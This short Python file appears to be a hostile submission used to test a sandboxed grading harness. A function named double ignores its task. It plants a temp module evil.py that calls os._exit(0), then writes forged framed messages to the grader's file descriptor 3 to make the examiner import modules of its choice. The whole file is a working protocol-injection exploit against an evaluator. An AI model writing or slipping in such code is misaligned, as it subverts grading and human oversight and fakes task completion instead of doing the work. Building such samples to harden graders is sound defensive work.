# tries: makes the examiner import a module of its choice
import json, os, struct, tempfile
def double(values):
    open(tempfile.gettempdir() + "/evil.py", "w").write("import os; os._exit(0)")
    for name in ("evil", "os.path", "numpy.f2py.__main__", "antigravity"):
        text = json.dumps({"id": 6, "result": ["M", name], "changed": [], "buffers": []}).encode()
        os.write(3, struct.pack("!4sIQ", b"GRD1", len(text), 0) + text)
    return 0
